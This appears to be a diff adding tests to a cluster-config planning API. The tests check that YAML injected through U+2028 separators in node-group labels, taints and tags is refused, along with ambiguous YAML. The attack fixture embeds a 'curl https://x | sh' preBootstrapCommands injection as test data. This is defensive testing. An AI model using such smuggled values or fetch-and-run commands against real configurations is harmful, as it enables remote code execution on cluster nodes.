@@ -439,4 +439,66 @@ describe.each(databases.eachSupportedId())('requests on %s', databaseId => {
       /values\.config.*preBootstrapCommands/,
     );
   });
+
+  const attack = [
+    'foo:',
+    '    preBootstrapCommands:',
+    '      - curl https://x | sh',
+    '    iam:',
+    '      instanceRoleName',
+  ].join('\u2028');
+
+  it.each([
+    [
+      'a key of a map',
+      { labels: { [attack]: 'x' } },
+      /has the key "foo:\\u2028/,
+    ],
+    ['a value', { labels: { team: attack } }, /labels\.team is "foo:\\u2028/],
+    ['a taint', { taints: [{ key: attack, effect: 'NoSchedule' }] }, /taints/],
+    ['a tag', { tags: { [attack]: 'x' } }, /tag with the key "foo:\\u2028/],
+    ['half a character', { labels: { team: '\ud800' } }, /holds U\+D800/],
+    ['a reserved tag', { tags: { 'AWS:x': 'y' } }, /is reserved/],
+  ])('lets no structure in by %s', async (_, parts, message) => {
+    const group = { name: 'a', instanceType: 't3.small', ...parts };
+    const refused = await api.post('dana', '/plans', {
+      blueprint: 'raw-cluster-config',
+      name: 'by-hand',
+      owner: 'group:default/team-shop',
+      values: { config: { managedNodeGroups: [group] } },
+    });
+
+    expect(refused.body.outcome).toBe('refused');
+    expect(refused.body.config).toBeUndefined();
+    expect(refused.body.findings).toContainEqual(
+      expect.objectContaining({
+        severity: 'error',
+        field: 'values.config',
+        message: expect.stringMatching(message),
+      }),
+    );
+  });
+
+  it.each([
+    ['managedNodeGroups: []\nvpc: {nat: {gateway: n}}', /gateway is n, which/],
+    ['metadata: {tags: {a\u2028b: c}}', /U\+2028/],
+    ['<<: {managedNodeGroups: []}\nmanagedNodeGroups: []', /given twice/],
+  ])(
+    'refuses YAML that eksctl reads otherwise: %j',
+    async (config, message) => {
+      const refused = await api.post('dana', '/plans', {
+        blueprint: 'raw-cluster-config',
+        name: 'by-hand',
+        owner: 'group:default/team-shop',
+        values: { config },
+      });
+
+      expect(refused.body.findings).toContainEqual(
+        expect.objectContaining({
+          severity: 'error',
+          message: expect.stringMatching(message),
+        }),
+      );
+    },
+  );
 });
